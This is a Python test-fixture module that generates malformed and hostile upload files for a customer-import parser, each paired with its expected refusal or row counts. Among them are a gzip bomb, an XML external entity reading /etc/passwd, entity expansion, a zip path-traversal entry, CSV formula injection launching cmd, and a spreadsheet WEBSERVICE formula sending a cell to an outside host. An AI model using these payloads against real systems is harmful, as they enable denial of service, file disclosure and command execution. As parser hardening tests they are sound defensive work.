"""Files that people send, or that somebody made to do harm: made by code, each with what has to come of it."""

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any, Final, NamedTuple

import polars as pl
import xlsxwriter  # pyright: ignore[reportMissingTypeStubs]


class Hostile(NamedTuple):
    """A file, and what has to come of it: a part of the sentence that refuses it, or how many rows are good and odd."""

    data: Callable[[], bytes]
    outcome: str | tuple[int, int]


HEADER: Final = "externalId,email,name"
ROWS: Final = ("C1,anna@example.com,Anna Muster", "C2,zoe@example.com,Zoë Köln", "C3,li@example.com,李雷")
PLAIN: Final = "\n".join((HEADER, *ROWS)) + "\n"
LATIN: Final = "externalId,email,name\nC1,anna@example.com,Anna\nC2,zoe@example.com,Zoë\n"


def text(*lines: str, end: str = "\n", encoding: str = "utf-8") -> Callable[[], bytes]:
    return lambda: "".join(line + end for line in lines).encode(encoding)


def raw(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def zipped(data: Callable[[], bytes]) -> Callable[[], bytes]:
    return lambda: gzip.compress(data())


def cut(data: Callable[[], bytes], share: float) -> Callable[[], bytes]:
    def made() -> bytes:
        whole = data()
        return whole[: int(len(whole) * share)]

    return made


def workbook(fill: Callable[[Any], None], **options: object) -> Callable[[], bytes]:
    def made() -> bytes:
        out = io.BytesIO()
        with xlsxwriter.Workbook(out, {"in_memory": True, **options}) as book:
            fill(book)
        return out.getvalue()

    return made


def rows_of(book: Any, *rows: Sequence[object], name: str | None = None) -> Any:
    sheet = book.add_worksheet(name)
    for at, row in enumerate(rows):
        for column, value in enumerate(row):
            sheet.write(at, column, value)
    return sheet


HEAD: Final = ("externalId", "email", "name")
ANNA: Final = ("C1", "anna@example.com", "Anna")


def simple(book: Any) -> None:
    rows_of(book, HEAD, ANNA, ("C2", "zoe@example.com", "Zoë"))


def changed(data: Callable[[], bytes], part: str, change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    """A zip archive with one part another; a part that is not there is added."""

    def made() -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(data())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
            for name in old.namelist():
                new.writestr(name, change(old.read(name)) if name == part else old.read(name))
            if part not in old.namelist():
                new.writestr(part, change(b""))
        return out.getvalue()

    return made


def archive(**parts: bytes) -> Callable[[], bytes]:
    def made() -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
            for name, data in parts.items():
                new.writestr(name.replace("__", "/"), data)
        return out.getvalue()

    return made


SHEET: Final = "xl/worksheets/sheet1.xml"
BOOK: Final = workbook(simple)


def formulas(book: Any) -> None:
    sheet = rows_of(book, HEAD, ANNA)
    sheet.write_formula(2, 0, '=CONCATENATE("C",2)', None, "C2")
    sheet.write_formula(2, 1, '=WEBSERVICE("https://example.com/?"&A1)', None, "zoe@example.com")
    sheet.write_formula(3, 0, "=A99/0", None, "#DIV/0!")


def hidden(book: Any) -> None:
    rows_of(book, ("secret",), ("x",), name="Hidden").hide()
    rows_of(book, name="Empty")
    rows_of(book, HEAD, ANNA, name="Customers").activate()


def merged(book: Any) -> None:
    sheet = rows_of(book, HEAD, ANNA)
    sheet.merge_range(2, 0, 2, 2, "C2")


def typed(book: Any) -> None:
    day = book.add_format({"num_format": "dd.mm.yyyy"})
    zip_code = book.add_format({"num_format": "00000"})
    sheet = rows_of(book, ("externalId", "dateOfBirth", "postalCode", "phone", "isDefault"))
    sheet.write_datetime(1, 1, datetime(1990, 2, 28), day)
    sheet.write_number(1, 2, 1067, zip_code)
    sheet.write_number(1, 3, 491511234567)
    sheet.write_boolean(1, 4, True)


def parquet(frame: pl.DataFrame, **options: Any) -> Callable[[], bytes]:
    def made() -> bytes:
        out = io.BytesIO()
        frame.write_parquet(out, **options)
        return out.getvalue()

    return made


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    size = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", zlib.compress(b"\0" * 200)) + chunk(b"IEND", b"")
    )


def bomb() -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb") as file:
        file.write(b"externalId,email\n")
        for _ in range(100):
            file.write(b"C1,a@example.com\n" * 65_536)
    return out.getvalue()


def sheet_bomb(old: bytes) -> bytes:
    return old.replace(b"<sheetData>", b"<sheetData>" + b" " * (200 << 20))


ENTITIES: Final = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr">
<is><t>&c;</t></is></c></row></sheetData></worksheet>"""
OUTSIDE: Final = b"""<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr">
<is><t>&x;</t></is></c></row></sheetData></worksheet>"""


def sheet_of(*rows: str) -> Callable[[bytes], bytes]:
    body = "".join(rows)
    return lambda _: (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{body}</sheetData></worksheet>"
    ).encode()


def inline(reference: str, value: str) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{value}</t></is></c>'


def lines_of(*values: object) -> Callable[[], bytes]:
    return lambda: "".join(json.dumps(value, ensure_ascii=False) + "\n" for value in values).encode()


GOOD: Final = '{"externalId":"C1","email":"anna@example.com"}'
GOODS: Final = [{"externalId": "C1", "email": "anna@example.com"}, {"externalId": "C2", "name": "Zoë"}]
FRAME: Final = pl.DataFrame({"externalId": ["C1", "C2"], "email": ["anna@example.com", None]})

CORPUS: Final[Mapping[str, Hostile]] = {
    # --- no table at all ---
    "empty": Hostile(raw(b""), "empty"),
    "only a mark": Hostile(raw(b"\xef\xbb\xbf"), "no header row"),
    "only a mark of UTF-16": Hostile(raw(b"\xff\xfe"), "no header row"),
    "only blank lines": Hostile(raw(b"\n\r\n   \n\n"), "no header row"),
    "only spaces": Hostile(raw(b" " * 5_000), "no header row"),
    "only NUL": Hostile(raw(b"\0" * 5_000), "UTF-16"),
    "a header of blanks": Hostile(text(",, ,", "1,2,3,4"), "no header row"),
    "a picture named .csv": Hostile(png, "PNG"),
    "a JPEG": Hostile(raw(b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(range(256)) * 8), "JPEG"),
    "a PDF": Hostile(raw(b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"), "PDF"),
    "a program": Hostile(raw(b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(2_000)), "program"),
    "a program of Linux": Hostile(raw(b"\x7fELF\x02\x01\x01" + bytes(2_000)), "program"),
    "a web page": Hostile(text("<!DOCTYPE html>", "<html><body>Sign in</body></html>"), "web page"),
    "XML": Hostile(text('<?xml version="1.0"?>', "<customers/>"), "web page or XML"),
    "an RTF document": Hostile(text("{\\rtf1\\ansi", "a,b}"), "RTF"),
    "noise": Hostile(raw(bytes((n * n * 31 + n * 7) % 251 for n in range(20_000))), "no text"),
    "an old .xls": Hostile(raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3_000)), "old Office"),
    "a workbook with a password": Hostile(
        raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_000) + "EncryptedPackage".encode("utf-16-le")), "password"
    ),
    "an OpenDocument sheet": Hostile(
        archive(mimetype=b"application/vnd.oasis.opendocument.spreadsheet", content=b"<x/>"), "OpenDocument"
    ),
    "a Word document": Hostile(archive(**{"word__document.xml": b"<x/>"}), "Word"),
    "a binary workbook": Hostile(archive(**{"xl__workbook.bin": b"\0"}), "XLSB"),
    "a zip archive with a CSV": Hostile(archive(**{"customers.csv": PLAIN.encode()}), "unpack it"),
    "an empty zip archive": Hostile(raw(b"PK\x05\x06" + bytes(18)), "empty zip"),
    "a zip archive with ways out": Hostile(archive(**{"..__..__etc__passwd": b"x"}), "unpack it"),
    "UTF-16 without a mark": Hostile(text(HEADER, *ROWS, encoding="utf-16-le"), "without the mark"),
    "UTF-32": Hostile(text(HEADER, *ROWS, encoding="utf-32"), "UTF-32"),
    "gzip of gzip": Hostile(zipped(zipped(raw(PLAIN.encode()))), "twice"),
    "gzip, cut off": Hostile(cut(zipped(raw(PLAIN.encode() * 50)), 0.6), "damaged"),
    "gzip of nothing": Hostile(zipped(raw(b"")), "empty"),
    "a gzip bomb": Hostile(bomb, "inflates to more"),
    "gzip with rubbish inside": Hostile(raw(gzip.compress(PLAIN.encode())[:20] + b"\xff" * 60), "damaged"),
    "1,001 columns": Hostile(text(",".join(f"c{n}" for n in range(1_001)), "1"), "1,000 columns"),
    "100,000 columns": Hostile(text(",".join("c" for _ in range(100_000)), "1"), "1,000 columns"),
    "NUL in the header": Hostile(text("a\0b,c", "1,2"), "NUL"),
    "a very long single line": Hostile(raw(b"externalId;" * 300_000), "Row 1 has more than"),
    # --- how it is written ---
    "header only": Hostile(text(HEADER), (0, 0)),
    "header only, without a line end": Hostile(raw(HEADER.encode()), (0, 0)),
    "plain": Hostile(raw(PLAIN.encode()), (3, 0)),
    "with a mark": Hostile(raw(b"\xef\xbb\xbf" + PLAIN.encode()), (3, 0)),
    "UTF-16, little end first": Hostile(raw(b"\xff\xfe" + PLAIN.encode("utf-16-le")), (3, 0)),
    "UTF-16, big end first": Hostile(raw(b"\xfe\xff" + PLAIN.encode("utf-16-be")), (3, 0)),
    "UTF-16 with half a pair": Hostile(
        raw(b"\xff\xfe" + (HEADER + "\nC1,x@example.com,").encode("utf-16-le") + b"\x00\xd8\n\0C\x002\x00"), (1, 1)
    ),
    "Windows-1252": Hostile(raw(LATIN.encode("cp1252")), (2, 0)),
    "Windows-1252 with bytes that it has not": Hostile(
        raw(LATIN.encode("cp1252") + b"C3,x@example.com,\x81\n"), (2, 1)
    ),
    "gzipped": Hostile(zipped(raw(PLAIN.encode())), (3, 0)),
    "CRLF": Hostile(text(HEADER, *ROWS, end="\r\n"), (3, 0)),
    "CR only": Hostile(text(HEADER, *ROWS, end="\r"), (3, 0)),
    "mixed line ends": Hostile(raw(f"{HEADER}\r\n{ROWS[0]}\n{ROWS[1]}\r{ROWS[2]}".encode()), (3, 0)),
    "blank lines in front and between": Hostile(text("", "", HEADER, "", ROWS[0], "   ", ROWS[1], ",,", ""), (2, 0)),
    "TSV named .csv": Hostile(text(*(line.replace(",", "\t") for line in (HEADER, *ROWS))), (3, 0)),
    "semicolons": Hostile(text(*(line.replace(",", ";") for line in (HEADER, *ROWS))), (3, 0)),
    "pipes": Hostile(text(*(line.replace(",", "|") for line in (HEADER, *ROWS))), (3, 0)),
    "Excel's line about the delimiter": Hostile(
        text("sep=;", "externalId;a,b,c,d;email", "C1;x;a@example.com"), (1, 0)
    ),
    "1,000 columns": Hostile(
        text(",".join(f"c{n}" for n in range(1_000)), ",".join("x" for _ in range(1_000))), (1, 0)
    ),
    "the same header twice": Hostile(text("email,email,name", "a@example.com,b@example.com,Anna"), (1, 0)),
    "commas behind every row": Hostile(text(f"{HEADER},,", *(f"{row},," for row in ROWS)), (3, 0)),
    "commas behind the rows only": Hostile(text(HEADER, *(f"{row},,,," for row in ROWS)), (3, 0)),
    # --- rows ---
    "ragged": Hostile(text(HEADER, "C1", "C2,a@example.com,Anna,more", "C3,b@example.com", "C4,,,,,x"), (2, 2)),
    "NUL in a cell": Hostile(text(HEADER, ROWS[0], "C2,a\0b@example.com,x", ROWS[2]), (2, 1)),
    "a quote in the middle of a word": Hostile(text(HEADER, 'C1,a@example.com,The 5" Shop', ROWS[1]), (2, 0)),
    "a quote behind a space": Hostile(text(HEADER, 'C1,a@example.com, "Anna"', ROWS[1]), (2, 0)),
    "text behind a closing quote": Hostile(text(HEADER, 'C1,a@example.com,"Anna" Muster', ROWS[1]), (2, 0)),
    "a quote that is never closed": Hostile(text(HEADER, ROWS[0], 'C2,a@example.com,"Anna', ROWS[1], ROWS[2]), (1, 1)),
    "a quote never closed, far from the end": Hostile(
        text(HEADER, 'C1,a@example.com,"Anna', *(ROWS[1] for _ in range(60_000))), "Row 2"
    ),
    "cells of several lines": Hostile(text(HEADER, 'C1,a@example.com,"Anna\r\n""M""\n,;"', ROWS[1]), (2, 0)),
    "a cell of 10 MB": Hostile(lambda: f"{PLAIN}C4,{'x' * 10_000_000},y\n{ROWS[0]}\n".encode(), (4, 1)),
    "a cell of 10 MB in quotes": Hostile(lambda: f'{PLAIN}C4,"{"x" * 10_000_000}",y\n{ROWS[0]}\n'.encode(), (4, 1)),
    "a cell of 10 MB at the end": Hostile(lambda: f"{PLAIN}C4,{'x' * 10_000_000}".encode(), (3, 1)),
    "a cell of 1,000,001 characters": Hostile(lambda: f"{PLAIN}C4,{'x' * 1_000_001},y\n{ROWS[0]}\n".encode(), (4, 1)),
    "a row of more than 1 MiB": Hostile(lambda: f"{PLAIN}{('x' * 600_000 + ',') * 2}\n{ROWS[0]}\n".encode(), (4, 1)),
    "an email of 10,000 characters": Hostile(text(HEADER, f"C1,{'a' * 10_000}@example.com,Anna"), (1, 0)),
    "formulas": Hostile(
        text(HEADER, "=1+1,@SUM(A1),+cmd|' /C calc'!A0", "'=1+1,-2,'+49", '"=HYPERLINK(""http://x"")",a@b.example,x'),
        (3, 0),
    ),
    "dates in six formats": Hostile(
        text("externalId,dateOfBirth", *("1990-02-28", "28.02.1990", "02/28/1990", "28/02/90", "Feb 28 1990", "32932")),
        (6, 0),
    ),
    "zero width, right to left, emoji": Hostile(
        text(
            HEADER,
            "C1,a\u200b@example.com,\u202eanna\u202c",
            "C2,b@example.com,👩‍👩‍👧 Zoë",
            "\ufeffC3,c@example.com,مريم",
        ),
        (3, 0),
    ),
    "cells that begin as zlib's streams do": Hostile(text(HEADER, "x^2,a@example.com,x", "xڅ,b@example.com,y"), (2, 0)),
    "vertical tab and form feed": Hostile(
        text(HEADER, "C1\v,a@example.com,\fAnna", "C2,b@example.com,x\u2028y"), (2, 0)
    ),
    "control characters": Hostile(text(HEADER, "C1,a@example.com,An\x1b[31mna\x07"), (1, 0)),
    "spaces of all kinds": Hostile(text(HEADER, "\u00a0C1\u3000,\u2003a@example.com,\x1c Anna\x85"), (1, 0)),
    # --- XLSX ---
    "a workbook": Hostile(BOOK, (2, 0)),
    "a workbook without shared texts": Hostile(workbook(simple, constant_memory=True), (2, 0)),
    "a gzipped workbook": Hostile(zipped(BOOK), (2, 0)),
    "a workbook, cut off": Hostile(cut(BOOK, 0.7), "damaged"),
    "a workbook with a broken sheet": Hostile(changed(BOOK, SHEET, lambda old: old[: len(old) // 2]), "damaged"),
    "a workbook without rows": Hostile(workbook(rows_of), "no header row"),
    "a workbook of a header": Hostile(workbook(lambda book: rows_of(book, HEAD)), (0, 0)),
    "formulas in a workbook": Hostile(workbook(formulas), (2, 1)),
    "hidden and empty sheets": Hostile(workbook(hidden), (1, 0)),
    "merged cells": Hostile(workbook(merged), (2, 0)),
    "typed cells": Hostile(workbook(typed), (1, 0)),
    "a workbook with macros": Hostile(changed(BOOK, "xl/vbaProject.bin", lambda _: b"\xd0\xcf\x11\xe0" * 50), (2, 0)),
    "links to other workbooks": Hostile(
        changed(
            BOOK,
            "xl/_rels/workbook.xml.rels",
            lambda old: old.replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="http://x/externalLink" Target="http://example.com/x" TargetMode="External"/>'
                b"</Relationships>",
            ),
        ),
        (2, 0),
    ),
    "entities": Hostile(changed(BOOK, SHEET, lambda _: ENTITIES), "declares entities"),
    "an entity from outside": Hostile(changed(BOOK, SHEET, lambda _: OUTSIDE), "declares entities"),
    "a lie about the size": Hostile(
        changed(BOOK, SHEET, lambda old: old.replace(b'ref="A1:C3"', b'ref="A1:XFD1048577"')), (2, 0)
    ),
    "a cell in the last row and column": Hostile(
        changed(
            BOOK,
            SHEET,
            sheet_of(f'<row r="1">{inline("A1", "email")}</row><row r="1048576">{inline("XFD1048576", "x")}</row>'),
        ),
        (0, 1),
    ),
    "a row beyond the last": Hostile(
        changed(BOOK, SHEET, sheet_of(f'<row r="1">{inline("A1", "email")}</row><row r="99999999999999999999"/>')),
        "not as such",
    ),
    "a cell in a column without end": Hostile(
        changed(BOOK, SHEET, sheet_of(f'<row r="1">{inline("ZZZZZZZZZZZZ1", "email")}</row>')), "not as such"
    ),
    "rows without numbers": Hostile(
        changed(
            BOOK, SHEET, sheet_of('<row><c t="inlineStr"><is><t>email</t></is></c></row><row><c><v>1</v></c></row>')
        ),
        (1, 0),
    ),
    "a shared text that is not there": Hostile(
        changed(BOOK, SHEET, sheet_of('<row r="1"><c r="A1" t="s"><v>99</v></c></row>')), "not as such"
    ),
    "a sheet that inflates": Hostile(changed(BOOK, SHEET, sheet_bomb), "inflates to more"),
    "ragged in a workbook": Hostile(workbook(lambda book: rows_of(book, HEAD, ANNA, ("C2", "", "", "", "x"))), (1, 1)),
    "NUL in a workbook": Hostile(
        changed(
            BOOK, SHEET, sheet_of(f'<row r="1">{inline("A1", "a")}</row><row r="2">{inline("A2", "x_x0000_y")}</row>')
        ),
        (0, 1),
    ),
    # --- JSON ---
    "JSON, one a line": Hostile(lines_of(*GOODS), (2, 0)),
    "JSON, one array": Hostile(lambda: json.dumps(GOODS, indent=2).encode(), (2, 0)),
    "JSON, an empty array": Hostile(raw(b"[]"), "no JSON object"),
    "JSON, an array of numbers": Hostile(raw(b"[1,2,3]"), "no JSON object"),
    "JSON, an array cut off": Hostile(raw(b"[" + GOOD.encode() + b',{"a":'), "never ends"),
    "JSON, something behind the array": Hostile(raw(b"[" + GOOD.encode() + b"] x"), "something else"),
    "JSON, one line is bad": Hostile(text(GOOD, "{oops}", GOOD), (2, 1)),
    "JSON, one line is no object": Hostile(text(GOOD, "[1]", "7", "null", '"x"', GOOD), (2, 4)),
    "JSON, all lines are bad": Hostile(text('{"', "{x"), "no JSON object"),
    "JSON, half a surrogate pair": Hostile(text(GOOD, '{"externalId":"C2","name":"\\ud800"}'), (1, 1)),
    "JSON, a surrogate pair": Hostile(text(GOOD, '{"externalId":"C2","name":"\\ud83d\\ude00"}'), (2, 0)),
    "JSON, NUL": Hostile(text(GOOD, '{"externalId":"C2\\u0000"}'), (1, 1)),
    "JSON, NaN and infinity": Hostile(text(GOOD, '{"externalId":NaN}', '{"externalId":Infinity}'), (1, 2)),
    "JSON, a number of 401 digits": Hostile(text(GOOD, '{"externalId":1' + "0" * 400 + "}"), (2, 0)),
    "JSON, a number of 10,000 digits": Hostile(text(GOOD, '{"externalId":1' + "0" * 10_000 + "}"), (1, 1)),
    "JSON, 1e400": Hostile(text(GOOD, '{"externalId":1e400}'), (1, 1)),
    "JSON, nested 10,000 deep": Hostile(text(GOOD, '{"tags":' + "[" * 10_000 + "]" * 10_000 + "}"), (1, 1)),
    "JSON, an array nested 10,000 deep": Hostile(raw(b"[" * 10_000 + b"]" * 10_000), "no JSON object"),
    "JSON, a key twice": Hostile(text('{"externalId":"C1","externalId":"C2"}'), (1, 0)),
    "JSON, more than 1,000 keys": Hostile(lines_of({f"k{n}": 1 for n in range(1_001)}), "1,000 different keys"),
    "JSON, a line of 2 MiB": Hostile(lambda: f'{GOOD}\n{{"name":"{"x" * (2 << 20)}"}}\n{GOOD}\n'.encode(), (2, 1)),
    "JSON, an element of 2 MiB": Hostile(lambda: f'[{GOOD},{{"name":"{"x" * (2 << 20)}"}},{GOOD}]'.encode(), (2, 1)),
    "JSON, no UTF-8": Hostile(raw(GOOD.encode() + b'\n{"externalId":"\xff"}\n'), (2, 0)),
    "JSON in UTF-16": Hostile(text(GOOD, GOOD, encoding="utf-16"), (2, 0)),
    "JSON, addresses": Hostile(
        lines_of(
            {"externalId": "C1", "tags": ["a", "b;c"], "addresses": [{"line1": "1"}, {"line1": "2"}, {"line1": "3"}]}
        ),
        (3, 0),
    ),
    # --- Parquet ---
    "Parquet": Hostile(parquet(FRAME), (2, 0)),
    "Parquet, gzipped": Hostile(zipped(parquet(FRAME)), (2, 0)),
    "Parquet, cut off": Hostile(cut(parquet(FRAME), 0.8), "damaged"),
    "Parquet, nothing but its name": Hostile(raw(b"PAR1"), "damaged"),
    "Parquet without rows": Hostile(parquet(FRAME.clear()), (0, 0)),
    "Parquet without columns": Hostile(parquet(pl.DataFrame()), "no header row"),
    "Parquet, typed": Hostile(
        parquet(
            pl.DataFrame(
                {
                    "externalId": [1, 2],
                    "dateOfBirth": [date(1990, 2, 28), None],
                    "at": [datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), None],
                    "amount": [Decimal("1.50"), None],
                    "isDefault": [True, None],
                    "raw": [b"abc", b"\xff"],
                    "weight": [1.0, float("nan")],
                }
            )
        ),
        (1, 1),
    ),
    "Parquet, nested": Hostile(
        parquet(
            pl.DataFrame(
                {
                    "externalId": ["C1", "C2"],
                    "tags": [["a", "b"], None],
                    "customFields": [{"size": "M", "vip": True}, None],
                    "addresses": [[{"line1": "1", "city": "x"}, {"line1": "2", "city": "y"}], []],
                }
            )
        ),
        (3, 0),
    ),
    "Parquet with NUL": Hostile(parquet(pl.DataFrame({"externalId": ["C1", "C\0"]})), (1, 1)),
}
"""By what each is: whoever takes tables from people goes through all of them."""
